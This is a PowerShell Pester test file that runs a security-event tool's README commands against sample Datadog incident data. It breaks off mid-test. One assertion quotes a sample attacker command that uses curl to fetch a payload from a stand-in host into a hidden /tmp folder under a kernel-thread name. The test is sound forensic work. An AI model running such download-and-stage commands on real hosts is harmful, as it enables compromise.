# Every command of README.md's code blocks runs here, and the test asserts what its comment (or the text around it)
# claims. A command this file does not know fails, naming it: a new README line needs its assertion here. A known
# command that left the README fails too, so this file cannot drift from the page.
#
# PowerShell lines run as in ExampleRunner.ps1: a fresh runspace with the built module, located in a copy of
# samples/; -Query lines against the loopback Datadog stub serving samples/datadog/logs-search-page.json.
# Shell lines (```sh) run with `sh -c` in such a folder, with the built CLI first on PATH as `csm-events`; the
# README's `dotnet run --project src/CsmEvents.Cli -c Release --` is that same build; Datadog lines get
# `--api-url` of the stub appended. Every line starts with an empty schema cache of its own; a line that fetches
# schemas (Save-CsmSchema, csm-events schemas --fetch) fetches them from a loopback mirror of
# ../shared/datadog-agent-schemas, and a line that validates current Linux events after such a fetch gets the same
# fetch first (Fetch in its claim); both are skipped, saying so, where ../shared is absent. A block that is a script
# file (the scheduled jobs) runs as a whole, with stand-ins for what a test cannot have (the keys file, the job's
# folders, Get-Secret), each named where it is made. The build and test commands are what runs this suite: their
# tests check what they leave behind.

BeforeDiscovery {
    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
    . (Join-Path $PSScriptRoot 'ExampleRunner.ps1')
    $powershellLines = @(Get-ReadmeCommand | Where-Object { $_.Kind -eq 'powershell' })
    $shellLines = @(Get-ReadmeCommand | Where-Object { $_.Kind -eq 'sh' })
}

BeforeAll {
    . (Join-Path $PSScriptRoot 'TestHelpers.ps1')
    . (Join-Path $PSScriptRoot 'ExampleRunner.ps1')
    Import-CsmEventsModule
    $samples = $script:SamplesFolder
    $cliFolder = Join-Path $script:RepoRoot 'src/CsmEvents.Cli/bin/Release/net10.0'

    function Get-OutputObject {
        param($Run)
        @($Run.Items | Where-Object {
                $_ -isnot [System.Management.Automation.ErrorRecord] -and $_ -isnot [System.Management.Automation.WarningRecord] -and
                $_ -isnot [System.Management.Automation.InformationRecord] -and $_ -isnot [System.Management.Automation.VerboseRecord]
            })
    }

    # The JSON lines of a file, parsed: the independent view of what a sample holds.
    function Read-JsonLine {
        param([string] $Path)
        @(Get-Content -LiteralPath $Path -Encoding UTF8 | Where-Object { $_.Trim().Length -gt 0 } | ForEach-Object { $_ | ConvertFrom-Json })
    }

    # One README PowerShell line run as a user would, in a fresh folder; the assertion gets the run.
    function Invoke-ReadmeLine {
        param([string] $Command, [switch] $WithLinuxSchema, [string[]] $Fetch)
        $stub = $null
        if (Test-DatadogCommand $Command) { $stub = Start-DatadogStub -Pages (Get-StubPage) }
        $mirror = $null
        if ($Fetch -or (Test-SchemaFetch $Command)) { $mirror = Start-SchemaMirror -Versions $script:MirroredAgentVersions }
        $session = New-ExampleSession -Folder (New-ExampleFolder -WithLinuxSchema:$WithLinuxSchema) -Stub $stub -Mirror $mirror
        if ($Fetch) {
            # What the README's fetch line before this one left in the cache; then the line runs offline.
            $null = Invoke-ExampleStep -Session $session -Command ('Save-CsmSchema ' + ($Fetch -join ', '))
            [Environment]::SetEnvironmentVariable('CSMEVENTS_SCHEMA_SOURCE', 'http://127.0.0.1:9/offline')
        }
        $result = Invoke-ExampleStep -Session $session -Command $Command
        [pscustomobject]@{
            Session = $session
            Folder = $session.Folder
            Items = $result.Items
            Objects = @(Get-OutputObject $result)
            Errors = @($result.Items | Where-Object { $_ -is [System.Management.Automation.ErrorRecord] })
            Text = ConvertTo-ComparableText -Lines $result.Lines -Folder $session.Folder
            Requests = if ($null -ne $stub) { @($stub.Requests.ToArray()) } else { @() }
            Cache = $session.Cache
        }
    }

    # Runs sh -c TEXT in a folder with csm-events first on PATH and the given environment; returns the exit code, the
    # output lines and standard error.
    function Invoke-Sh {
        param([string] $Text, [string] $Folder, [hashtable] $Environment)
        $start = New-Object System.Diagnostics.ProcessStartInfo 'sh'
        $start.ArgumentList.Add('-c')
        $start.ArgumentList.Add($Text)
        $start.WorkingDirectory = $Folder
        $start.RedirectStandardOutput = $true
        $start.RedirectStandardError = $true
        $start.UseShellExecute = $false
        $start.Environment['PATH'] = $cliFolder + [System.IO.Path]::PathSeparator + $start.Environment['PATH']
        foreach ($name in $Environment.Keys) { $start.Environment[$name] = $Environment[$name] }
        $process = [System.Diagnostics.Process]::Start($start)
        $errorsRead = $process.StandardError.ReadToEndAsync()
        $output = $process.StandardOutput.ReadToEnd()
        $process.WaitForExit()
        [pscustomobject]@{ ExitCode = $process.ExitCode; Lines = @($output -split "`n" | Where-Object { $_.Length -gt 0 }); Errors = $errorsRead.Result }
    }

    # One README shell line (or script), run with sh in a fresh folder with csm-events first on PATH and an empty
    # schema cache of its own. -Fetch: the schemas the README fetched on an earlier line, fetched first (then the line
    # runs with no schema source at all). -Runs: how many times the line searches Datadog (the stub serves the sample
    # page and an empty last page for each). -Prepare: a script block given the folder and the line, run before it,
    # that returns the line to run (stand-ins for a script's paths).
    function Invoke-ShellLine {
        param([string] $Line, [switch] $WithLinuxSchema, [string[]] $Fetch, [int] $Runs = 1, [scriptblock] $Prepare)
        $line = $Line.Replace('dotnet run --project src/CsmEvents.Cli -c Release --', 'csm-events')
        $stub = $null
        $mirror = $null
        $folder = New-ExampleFolder -WithLinuxSchema:$WithLinuxSchema
        $environment = @{ CSMEVENTS_SCHEMA_CACHE = (Join-Path $folder '.schema-cache'); CSMEVENTS_SCHEMA_SOURCE = 'http://127.0.0.1:9/offline' }
        try {
            if ($line -match '--query') {
                $pages = @()
                for ($i = 0; $i -lt $Runs; $i++) { $pages += Get-StubPage }
                $stub = Start-DatadogStub -Pages $pages
                # A script file (#!) puts the address where its own command is (its Prepare does).
                if (-not $line.StartsWith('#!')) { $line += ' --api-url ' + $stub.Url }
                $environment['CSMEVENTS_TEST_API_URL'] = $stub.Url
                # Keys as the README's jobs have them, from the environment (placeholders the stub accepts).
                $environment['DD_API_KEY'] = 'placeholder-key'
                $environment['DD_APP_KEY'] = 'placeholder-key'
            }
            if ($Fetch -or (Test-SchemaFetch $line)) {
                $mirror = Start-SchemaMirror -Versions $script:MirroredAgentVersions
                $environment['CSMEVENTS_SCHEMA_SOURCE'] = $mirror.Url
            }
            if ($Fetch) {
                $fetched = Invoke-Sh -Text ('csm-events schemas --fetch ' + ($Fetch -join ',')) -Folder $folder -Environment $environment
                $fetched.ExitCode | Should -Be 0 -Because $fetched.Errors
                $environment['CSMEVENTS_SCHEMA_SOURCE'] = 'http://127.0.0.1:9/offline'
            }
            if ($null -ne $Prepare) { $line = & $Prepare $folder $line $environment }
            $run = Invoke-Sh -Text $line -Folder $folder -Environment $environment
            $files = @{}
            foreach ($name in 'windows.schema.json', 'drift.json', 'report.xml', 'job/drift.json', 'job/report.xml', 'report.html', 'ws01.html', 'web01.html', 'ws01.csv') {
                $path = Join-Path $folder $name
                if (Test-Path -LiteralPath $path) { $files[$name] = [System.IO.File]::ReadAllText($path) }
            }
            $cached = @()
            if (Test-Path -LiteralPath $environment['CSMEVENTS_SCHEMA_CACHE']) {
                $cached = @(Get-ChildItem -LiteralPath $environment['CSMEVENTS_SCHEMA_CACHE'] -Recurse -File -Filter '*.schema.json' | ForEach-Object { $_.FullName.Substring($environment['CSMEVENTS_SCHEMA_CACHE'].Length + 1).Replace('\', '/') } | Sort-Object)
            }
            [pscustomobject]@{
                ExitCode = $run.ExitCode
                Lines = $run.Lines
                Errors = $run.Errors
                Files = $files
                Folder = $folder
                Cached = $cached
                Requests = if ($null -ne $stub) { @($stub.Requests.ToArray()) } else { @() }
                MirrorRequests = if ($null -ne $mirror) { @($mirror.Requests.ToArray()) } else { @() }
            }
        }
        finally {
            if ($null -ne $stub) { Stop-DatadogStub $stub }
            if ($null -ne $mirror) { Stop-SchemaMirror $mirror }
            Remove-Item -LiteralPath $folder -Recurse -Force -ErrorAction SilentlyContinue
        }
    }

    # The README's install lines run as a user runs them, in order, in a fresh process whose home is a temporary
    # folder: what they install (the module with PSResourceGet, the CLI with `dotnet tool install -g`) lands there and
    # nowhere else. build.ps1 -Task Test makes out/packages first; without it these lines cannot run.
    function Assert-PackagesBuilt {
        $version = (Import-PowerShellDataFile -LiteralPath $script:ModuleManifest).ModuleVersion
        foreach ($name in "CsmEvents.$version.nupkg", "csm-events.$version.nupkg") {
            $path = Join-Path $script:RepoRoot "out/packages/$name"
            if (Test-Path -LiteralPath $path) { continue }
            if ($env:CSMEVENTS_REQUIRE_PACKAGES) { throw "there is no $path (build.ps1 -Task Package makes it)" }
            Set-ItResult -Skipped -Because "there is no ${path}: run ./build.ps1 -Task Package first (build.ps1 -Task Test does)"
        }
    }

    function New-TemporaryHome {
        $userHome = Join-Path ([System.IO.Path]::GetTempPath()) ('csmevents-readme-home-' + [guid]::NewGuid().ToString('N'))
        foreach ($folder in '.local/share', '.config', '.cache') { New-Item -ItemType Directory -Path (Join-Path $userHome $folder) -Force | Out-Null }
        $userHome
    }

    # The README lines of one code block, from the line that starts with $First, in README order.
    function Get-ReadmeBlockFrom {
        param([string] $Kind, [string] $First, [int] $Count)
        $commands = @(Get-ReadmeCommand | Where-Object { $_.Kind -eq $Kind } | ForEach-Object { $_.Command })
        $start = [array]::IndexOf($commands, $First)
        $start | Should -BeGreaterOrEqual 0 -Because "README should have the line $First"
        @($commands[$start..($start + $Count - 1)])
    }

    # What every report page must be (README: "loads nothing when opened ... its Content-Security-Policy forbids
    # every load"), and its summary line: "<events> events from <inputs> inputs, <hosts> hosts."
    function Assert-ReportPage {
        param([string] $Html, [int] $Events, [int] $Inputs, [int] $Hosts)
        $Html | Should -Match '^<!DOCTYPE html>'
        $Html | Should -Match "<meta http-equiv=`"Content-Security-Policy`" content=`"default-src 'none';"
        $Html | Should -Not -Match '(src|href)="(https?:)?//'
        $hostWord = if ($Hosts -eq 1) { 'host' } else { 'hosts' }
        $Html | Should -Match ('<p class="meta">' + $Events + ' events from ' + $Inputs + ' inputs?, ' + $Hosts + ' ' + $hostWord + '\.')
    }

    # What each README PowerShell line claims. Key: the line exactly as the README writes it.
    $powershellClaims = [ordered]@{
        'Install-PSResource CsmEvents            # for the current user' = @{
            NotRun = 'CsmEvents is not on the PowerShell Gallery yet and tests have no network; the Register-PSResourceRepository lines install the same package from out/packages'
            Test = {
                # "PowerShell 7.4+ ships PSResourceGet": the pwsh running this suite has Install-PSResource built in.
                (Get-Command Install-PSResource).Module.ModuleBase | Should -BeLike (Join-Path $PSHOME 'Modules*')
            }
        }
        'Import-Module CsmEvents' = @{
            NotRun = 'it runs after Install-PSResource, with the Register-PSResourceRepository line, in one fresh PowerShell'
            Test = { (Get-ReadmeBlockFrom -Kind 'powershell' -First 'Install-PSResource CsmEvents -Repository CsmEventsLocal' -Count 2)[1] | Should -BeExactly 'Import-Module CsmEvents' }
        }
        'Get-Help Get-CsmEvent -Examples         # every cmdlet has full help; Get-Help about_CsmEvents for the overview' = @{
            Test = {
                param($Run)
                # Every example of the page, by its title, in the help Get-Help shows.
                $titles = @(Get-Content -LiteralPath (Join-Path $script:RepoRoot 'docs/cmdlets/Get-CsmEvent.md') -Encoding UTF8 | Where-Object { $_ -match '^### Example \d+' })
                $titles.Count | Should -BeGreaterOrEqual 2
                foreach ($title in $titles) { $Run.Text | Should -Match ([regex]::Escape($title.Substring(4).Trim())) }
                (Get-Help about_CsmEvents | Out-String) | Should -Match 'CsmEvents'
            }
        }
        'Register-PSResourceRepository -Name CsmEventsLocal -Uri ./out/packages -Trusted   # once: a folder is a repository' = @{
            NotRun = 'it runs below with the two lines after it, in a fresh PowerShell whose home is a temporary folder'
            Test = {
                if ($PSVersionTable.PSEdition -ne 'Core' -or $IsWindows) { Set-ItResult -Skipped -Because 'the install lines run where the user folders can be redirected to a temporary home (PowerShell 7 on Linux or macOS)' }
                Assert-PackagesBuilt
                $lines = Get-ReadmeBlockFrom -Kind 'powershell' -First 'Register-PSResourceRepository -Name CsmEventsLocal -Uri ./out/packages -Trusted   # once: a folder is a repository' -Count 3
                $userHome = New-TemporaryHome
                $childScript = ("`$ErrorActionPreference = 'Stop'; `$ProgressPreference = 'SilentlyContinue'`n" + ($lines -join "`n") + "`n" +
                    "(Get-Module CsmEvents).ModuleBase`n@(Get-CsmEvent ./samples -Recurse).Count")
                $saved = @{}
                $environment = @{ HOME = $userHome; XDG_DATA_HOME = (Join-Path $userHome '.local/share'); XDG_CONFIG_HOME = (Join-Path $userHome '.config'); XDG_CACHE_HOME = (Join-Path $userHome '.cache'); PSModulePath = (Join-Path $PSHOME 'Modules'); NO_COLOR = '1' }
                foreach ($name in $environment.Keys) { $saved[$name] = [Environment]::GetEnvironmentVariable($name); [Environment]::SetEnvironmentVariable($name, $environment[$name]) }
                Push-Location -LiteralPath $script:RepoRoot
                try {
                    $encoded = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($childScript))
                    $output = @(& (Get-PwshPath) -NoProfile -NonInteractive -EncodedCommand $encoded 2>&1 | ForEach-Object { "$_" })
                    $LASTEXITCODE | Should -Be 0 -Because ($output -join "`n")
                    # Installed for the current user (the temporary home), imported by name, reading the samples.
                    $version = (Import-PowerShellDataFile -LiteralPath $script:ModuleManifest).ModuleVersion
                    $output[-2] | Should -BeExactly (Join-Path $userHome ".local/share/powershell/Modules/CsmEvents/$version")
                    $output[-1] | Should -Be '110'
                }
                finally {
                    Pop-Location
                    foreach ($name in $saved.Keys) { [Environment]::SetEnvironmentVariable($name, $saved[$name]) }
                    Remove-Item -LiteralPath $userHome -Recurse -Force -ErrorAction SilentlyContinue
                }
            }
        }
        'Install-PSResource CsmEvents -Repository CsmEventsLocal' = @{
            NotRun = 'it runs with the Register-PSResourceRepository line, in one fresh PowerShell'
            Test = { (Get-ReadmeBlockFrom -Kind 'powershell' -First 'Register-PSResourceRepository -Name CsmEventsLocal -Uri ./out/packages -Trusted   # once: a folder is a repository' -Count 2)[1] | Should -BeExactly 'Install-PSResource CsmEvents -Repository CsmEventsLocal' }
        }
        'Get-CsmEvent ./samples -Recurse | Export-CsmReport ./report.html' = @{
            Test = {
                param($Run)
                $Run.Objects.Count | Should -Be 0 -Because 'Export-CsmReport writes the file, and nothing to the pipeline'
                Assert-ReportPage -Html ([System.IO.File]::ReadAllText((Join-Path $Run.Folder 'report.html'))) -Events 110 -Inputs 9 -Hosts 9
            }
        }
        'Get-CsmEvent ./samples/datadog/logs-search-page.json | ConvertFrom-CsmEvent -As Timesketch | Set-Content ./web01.jsonl' = @{
            Test = {
                param($Run)
                $lines = @(Get-Content -LiteralPath (Join-Path $Run.Folder 'web01.jsonl') -Encoding UTF8)
                $lines.Count | Should -Be 8
                foreach ($line in $lines) {
                    $record = $line | ConvertFrom-Json -DateKind String
                    # What Timesketch's importer requires, and flat attributes.
                    $record.message | Should -Not -BeNullOrEmpty
                    $record.datetime | Should -Match '^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00$'
                    $record.timestamp_desc | Should -BeExactly 'Event Time'
                    $record.host | Should -BeExactly 'web-01'
                    @($record.PSObject.Properties | Where-Object { $_.Value -is [System.Management.Automation.PSCustomObject] }).Count | Should -Be 0
                }
            }
        }
        'Get-CsmEvent ./samples/windows/incident-ws01.jsonl | ConvertFrom-CsmEvent -As Csv | Set-Content ./ws01.csv -Encoding utf8' = @{
            Test = {
                param($Run)
                $rows = @(Import-Csv -LiteralPath (Join-Path $Run.Folder 'ws01.csv') -Encoding UTF8)
                $rows.Count | Should -Be 24
                @($rows[0].PSObject.Properties.Name) | Should -Be @('time_utc', 'host', 'platform', 'rule_id', 'event_type', 'category', 'outcome', 'process_name', 'pid', 'ppid', 'user', 'command_line', 'target', 'source')
                $rows[0].rule_id | Should -BeExactly 'office_app_started'
                $rows[0].user | Should -BeExactly 'CORP\alice'
            }
        }
        'Export-CsmReport -Path ./samples/windows -Recurse -OutFile ./ws01.html -Validate' = @{
            Test = {
                param($Run)
                $html = [System.IO.File]::ReadAllText((Join-Path $Run.Folder 'ws01.html'))
                Assert-ReportPage -Html $html -Events 29 -Inputs 3 -Hosts 3
                # "with the validation results": the Windows samples are valid.
                $html | Should -Match '<p>Schema: <code>auto</code>\. 29 valid, 0 invalid\.</p>'
            }
        }
        'Get-CsmEvent ./samples/windows/incident-ws01.jsonl -EventType exec | Sort-Object Timestamp -Descending' = @{
            Test = {
                param($Run)
                $execs = @(Read-JsonLine (Join-Path $samples 'windows/incident-ws01.jsonl') | Where-Object { $_.evt.name -eq 'exec' })
                $Run.Objects.Count | Should -Be $execs.Count
                $Run.Objects.Count | Should -Be 6
                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([CsmEvents.Model.CsmEvent]); $_.EventType | Should -Be 'exec'; $_.Platform | Should -Be 'Windows' }
                for ($i = 1; $i -lt $Run.Objects.Count; $i++) { $Run.Objects[$i - 1].Timestamp | Should -BeGreaterOrEqual $Run.Objects[$i].Timestamp }
                # As a table: the default view.
                ($Run.Text -split "`n")[0] | Should -Match '^Time \(UTC\)\s+Host\s+EventType\s+RuleId\s+Process\s+Outcome\s+Target$'
                @($Run.Text -split "`n").Count | Should -Be (2 + $execs.Count)
            }
        }
        "Get-CsmEvent ./samples -Recurse | Where-Object { `$_.Process.Executable.Name -eq 'cmd.exe' }" = @{
            Test = {
                param($Run)
                $Run.Objects.Count | Should -Be 2
                $Run.Objects | ForEach-Object { $_.Process.Executable.Name | Should -BeExactly 'cmd.exe' }
                # What ran it: the parent the events carry.
                @($Run.Objects | ForEach-Object { $_.Process.Parent.Name } | Sort-Object -Unique) | Should -Be @('WINWORD.EXE')
            }
        }
        'Get-CsmEvent ./samples/linux/incident-web01.jsonl.gz -Outcome Refused | Format-List' = @{
            Test = {
                param($Run)
                $gz = [System.IO.File]::ReadAllBytes((Join-Path $samples 'linux/incident-web01.jsonl.gz'))
                @($gz[0], $gz[1]) | Should -Be @(0x1f, 0x8b) -Because 'the file is gzip, detected from its first bytes'
                $refused = @(Read-JsonLine (Join-Path $samples 'linux/incident-web01.jsonl') | Where-Object { $_.evt.outcome -eq 'Refused' })
                $refused.Count | Should -Be 1
                $lines = @($Run.Text -split "`n")
                @($lines | Where-Object { $_ -match '^Outcome\s+: ' }).Count | Should -Be $refused.Count
                @($lines | Where-Object { $_ -match '^Outcome\s+: Refused$' }).Count | Should -Be $refused.Count
                @($lines | Where-Object { $_ -match '^RuleId\s+: (.*)$' } | ForEach-Object { $Matches[1] }) | Should -Be @($refused.agent.rule_id)
                $Run.Errors.Count | Should -Be 0
            }
        }
        'Get-CsmEvent ./samples/datadog/logs-search-page.json | Select-Object Timestamp, HostName, EventType, RuleId' = @{
            Test = {
                param($Run)
                $pagePath = Join-Path $samples 'datadog/logs-search-page.json'
                $logs = @((Get-Content -LiteralPath $pagePath -Raw | ConvertFrom-Json).data)
                $Run.Objects.Count | Should -Be $logs.Count
                $Run.Objects.Count | Should -Be 8
                for ($i = 0; $i -lt $logs.Count; $i++) {
                    $Run.Objects[$i].HostName | Should -BeExactly $logs[$i].attributes.host
                    $Run.Objects[$i].RuleId | Should -BeExactly $logs[$i].attributes.attributes.agent.rule_id
                    @($Run.Objects[$i].PSObject.Properties.Name) | Should -Be @('Timestamp', 'HostName', 'EventType', 'RuleId')
                }
                # The service and tags are kept with each event too.
                $events = @(Get-CsmEvent -LiteralPath $pagePath)
                for ($i = 0; $i -lt $logs.Count; $i++) {
                    $events[$i].Source.Envelope.Service | Should -BeExactly $logs[$i].attributes.service
                    @($events[$i].Source.Envelope.Tags) | Should -Be @($logs[$i].attributes.tags)
                }
            }
        }
        'Get-ChildItem ./samples -Recurse -Filter *.jsonl | Get-CsmEvent -Platform Linux' = @{
            Test = {
                param($Run)
                $Run.Objects.Count | Should -Be 42
                $Run.Objects | ForEach-Object { $_.Platform | Should -Be 'Linux' }
                # Each piped file read once, as if its path were given.
                $files = @(Get-ChildItem -LiteralPath $samples -Recurse -Filter *.jsonl | ForEach-Object { $_.FullName })
                $Run.Objects.Count | Should -Be @(Get-CsmEvent -LiteralPath $files -Platform Linux).Count
                @($Run.Objects | ForEach-Object { $_.Source.ToString() } | Sort-Object -Unique).Count | Should -Be $Run.Objects.Count
            }
        }
        'Get-Content ./samples/windows/single-event.json | Get-CsmEvent' = @{
            Test = {
                param($Run)
                $Run.Objects.Count | Should -Be 1
                $Run.Objects[0].RuleId | Should -BeExactly 'run_key_persistence'
                ($Run.Objects[0] | ConvertFrom-CsmEvent) | Should -BeExactly (Get-CsmEvent -LiteralPath (Join-Path $samples 'windows/single-event.json') | ConvertFrom-CsmEvent)
            }
        }
        'Get-ChildItem ./samples/windows -Filter *.jsonl | Test-CsmEvent -Detailed | Where-Object { -not $_.IsValid }' = @{
            Test = {
                param($Run)
                # The Windows samples are valid: nothing is left after the filter ...
                $Run.Items.Count | Should -Be 0
                # ... of one detailed result per event.
                $results = @(Get-ChildItem -LiteralPath (Join-Path $samples 'windows') -Filter *.jsonl | Test-CsmEvent -Detailed)
                $results.Count | Should -Be 24
                $results | ForEach-Object { $_ | Should -BeOfType ([CsmEvents.Schema.CsmValidationResult]); $_.IsValid | Should -BeTrue; $_.Schema | Should -Be 'windows' }
            }
        }
        'Test-CsmEvent ./samples/linux-legacy/events.jsonl -Schema linux' = @{
            Test = {
                param($Run)
                $Run.Objects.Count | Should -Be @(Read-JsonLine (Join-Path $samples 'linux-legacy/events.jsonl')).Count
                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([bool]); $_ | Should -BeTrue }
            }
        }
        'Save-CsmSchema 7.68.0' = @{
            Test = {
                param($Run)
                # Both published schemas of agent 7.68.0, into the per-user cache (here the line's own).
                @($Run.Objects | ForEach-Object { $_.Name }) | Should -Be @('backend_linux@7.68.0', 'backend_windows@7.68.0')
                foreach ($file in 'backend_linux.schema.json', 'backend_windows.schema.json') {
                    [System.IO.File]::ReadAllBytes((Join-Path $Run.Cache "7.68.0/$file")) | Should -Be ([System.IO.File]::ReadAllBytes((Join-Path $script:SharedSchemaFolder $file)))
                }
            }
        }
        'Test-CsmEvent ./samples/linux/newer-agent.jsonl -IgnoreAdditionalProperties' = @{
            Fetch = @('7.68.0')
            Test = {
                param($Run)
                # After the fetch, offline (the line runs with no schema source): each event against the schema of its
                # agent.version, the newer fields relaxed.
                $Run.Objects | Should -Be @($true, $true, $true)
                $detailed = @(Test-CsmEvent -LiteralPath (Join-Path $Run.Folder 'samples/linux/newer-agent.jsonl') -IgnoreAdditionalProperties -Detailed)
                @($detailed | ForEach-Object { $_.Schema } | Sort-Object -Unique) | Should -Be @('backend_linux@7.68.0')
                @($detailed | ForEach-Object { $_.AgentVersion } | Sort-Object -Unique) | Should -Be @('7.68.0')
                # Without relaxing them, the newer agent's fields are what fails.
                @(Test-CsmEvent -LiteralPath (Join-Path $Run.Folder 'samples/linux/newer-agent.jsonl')) | Should -Be @($false, $false, $false)
            }
        }
        'Test-CsmEvent ./samples/linux/newer-agent.jsonl -Summary' = @{
            Fetch = @('7.68.0')
            Test = {
                param($Run)
                $Run.Objects.Count | Should -Be 1
                $summary = $Run.Objects[0]
                $summary | Should -BeOfType ([CsmEvents.Drift.CsmDriftSummary])
                $summary.EventsRead | Should -Be 3
                $summary.Invalid | Should -Be 3
                # Grouped by schema, keyword and path, largest first.
                $summary.Groups.Count | Should -Be 7
                $summary.Groups[0].Path | Should -BeExactly '/process/is_parent_missing'
                $summary.Groups[0].Events | Should -Be 2
                for ($i = 1; $i -lt $summary.Groups.Count; $i++) { $summary.Groups[$i - 1].Events | Should -BeGreaterOrEqual $summary.Groups[$i].Events }
                @($summary.Groups | ForEach-Object { $_.Keyword } | Sort-Object -Unique) | Should -Be @('additionalProperties')
                # On one screen.
                @($Run.Text -split "`n").Count | Should -BeLessThan 40
                $Run.Text | Should -Match '3 events read: 0 valid, 3 invalid'
            }
        }
        '# C:\csm\drift.ps1 — the task''s last run result is the exit code: 0 known drift only, 1 new drift or partial input, 2 the job could not run' = @{
            Fetch = @('7.64.3', '7.68.0')
            RunsItself = $true
            Test = {
                param($Run, $Script)
                if ($PSVersionTable.PSEdition -ne 'Core') { Set-ItResult -Skipped -Because 'the scheduled script runs once, in pwsh 7 as the task does' }
                # The task's run: `pwsh -NoProfile -File drift.ps1` in a fresh process. Stand-ins, and nothing else
                # changed: C:\csm\ is a folder of the test; Get-Secret (SecretManagement, not installed here) answers a
                # placeholder key; the search goes to the loopback Datadog stub through $PSDefaultParameterValues;
                # CsmEvents is found by name through PSModulePath (the built module); the schemas are cached first.
                $folder = New-ExampleFolder
                $stub = Start-DatadogStub -Pages (@(Get-StubPage) + @(Get-StubPage))
                $mirror = Start-SchemaMirror -Versions $script:MirroredAgentVersions
                $saved = @{}
                $environment = @{
                    CSMEVENTS_SCHEMA_CACHE = (Join-Path $folder '.schema-cache'); CSMEVENTS_SCHEMA_SOURCE = $mirror.Url
                    PSModulePath = (Join-Path $script:RepoRoot 'out') + [System.IO.Path]::PathSeparator + (Join-Path $PSHOME 'Modules'); NO_COLOR = '1'
                }
                foreach ($name in $environment.Keys) { $saved[$name] = [Environment]::GetEnvironmentVariable($name); [Environment]::SetEnvironmentVariable($name, $environment[$name]) }
                try {
                    & (Join-Path $cliFolder 'csm-events') schemas --fetch 7.64.3,7.68.0 | Out-Null
                    $LASTEXITCODE | Should -Be 0
                    [Environment]::SetEnvironmentVariable('CSMEVENTS_SCHEMA_SOURCE', 'http://127.0.0.1:9/offline')
                    $standIns = "function Get-Secret { param([string] `$Name, [switch] `$AsPlainText) 'placeholder-key' }`n" +
                        "`$PSDefaultParameterValues['Test-CsmEvent:ApiUrl'] = '$($stub.Url)'`n"
                    $job = $Script.Replace('C:\csm\', $folder + '/')
                    # The baseline, made once as the README says (the same search with -UpdateBaseline).
                    $once = Join-Path $folder 'drift-update-baseline.ps1'
                    [System.IO.File]::WriteAllText($once, $standIns + $job.Replace(' -JUnitPath ', ' -UpdateBaseline -JUnitPath '))
                    & (Get-PwshPath) -NoProfile -File $once | Out-Null
                    $LASTEXITCODE | Should -Be 0 -Because (Get-Content -LiteralPath (Join-Path $folder 'last.txt') -Raw)
                    $path = Join-Path $folder 'drift.ps1'
                    [System.IO.File]::WriteAllText($path, $standIns + $job)
                    & (Get-PwshPath) -NoProfile -File $path | Out-Null
                    $exitCode = $LASTEXITCODE
                    $last = Get-Content -LiteralPath (Join-Path $folder 'last.txt') -Raw
                    $exitCode | Should -Be 0 -Because "0: known drift only`n$last"
                    $last | Should -Match '\d+ events read: '
                    ([xml](Get-Content -LiteralPath (Join-Path $folder 'report.xml') -Raw)).SelectNodes('//testcase/failure').Count | Should -Be 0
                    @($stub.Requests.ToArray()).Count | Should -Be 4
                }
                finally {
                    foreach ($name in $saved.Keys) { [Environment]::SetEnvironmentVariable($name, $saved[$name]) }
                    Stop-DatadogStub $stub
                    Stop-SchemaMirror $mirror
                    Remove-Item -LiteralPath $folder -Recurse -Force -ErrorAction SilentlyContinue
                }
            }
        }
        '(Get-CsmSchema windows).Text | Set-Content ./windows.schema.json' = @{
            Test = {
                param($Run)
                $file = Join-Path $Run.Folder 'windows.schema.json'
                [System.IO.File]::ReadAllText($file).TrimEnd("`r", "`n") | Should -BeExactly (Get-CsmSchema windows).Text.TrimEnd("`r", "`n")
                @(Test-CsmEvent -LiteralPath (Join-Path $samples 'windows/incident-ws01.jsonl') -SchemaPath $file) | Should -Not -Contain $false
            }
        }
        'Get-CsmEvent ./samples/linux/incident-web01.jsonl | Get-CsmProcessTree -Name curl -Ancestry' = @{
            Test = {
                param($Run)
                # What started curl: its lineage, from the root down to curl.
                @($Run.Objects | ForEach-Object { $_.Name }) | Should -Be @('systemd', 'systemd', 'nginx', 'nginx', 'nginx', 'sh', 'sh', 'curl')
                @($Run.Objects | ForEach-Object { $_.Depth }) | Should -Be @(0..7)
                @($Run.Objects | Where-Object { $_.IsSelected } | ForEach-Object { $_.Pid }) | Should -Be @(24313)
                $Run.Objects[-1].EventCount | Should -Be 5
            }
        }
        'Get-CsmProcessTree ./samples/linux/incident-web01.jsonl -Name nginx -AsText' = @{
            Test = {
                param($Run)
                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([string]) }
                $Run.Objects[0] | Should -BeExactly ('host: ' + (Join-Path $Run.Folder 'samples/linux/incident-web01.jsonl'))
                $Run.Objects[1] | Should -BeExactly "nginx (1187) [exec, selected]: /usr/sbin/nginx -g 'daemon off; master_process on;'"
                # What each process did: the event counts of the tree below nginx.
                $Run.Objects | Should -Contain '         │  └─ curl (24313) [exec] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0'
                $Run.Objects | Should -Contain '         └─ kswapd0 (24311) [exec] 12 events: /tmp/.x/kswapd0'
                $Run.Objects.Count | Should -Be 22
            }
        }
        'Get-CsmProcessTree ./samples/windows/incident-ws01.jsonl -Format Mermaid | Set-Content ./ws01.mmd' = @{
            Test = {
                param($Run)
                $mermaid = @(Get-Content -LiteralPath (Join-Path $Run.Folder 'ws01.mmd') -Encoding UTF8)
                $mermaid[0] | Should -BeExactly 'flowchart TD'
                ($mermaid -join "`n") | Should -BeExactly ((Get-CsmProcessTree -LiteralPath (Join-Path $Run.Folder 'samples/windows/incident-ws01.jsonl') -Format Mermaid) -replace "`r?`n$", '')
                ($mermaid -join "`n") | Should -Match 'WINWORD\.EXE \(7412\)'
            }
        }
        "Get-CsmEvent -Query '@agent.rule_id:shell_from_webserver' -From (Get-Date).AddHours(-6) | Get-CsmProcessTree" = @{
            Test = {
                param($Run)
                $Run.Requests.Count | Should -Be 2 -Because 'the sample page has a cursor; the second page is the last'
                $body = $Run.Requests[0]
                $body | Should -Match ([regex]::Escape('@agent.rule_id:shell_from_webserver'))
                $from = [DateTimeOffset]::Parse(([regex]::Match($body, '"from":"([^"]+)"')).Groups[1].Value, [System.Globalization.CultureInfo]::InvariantCulture)
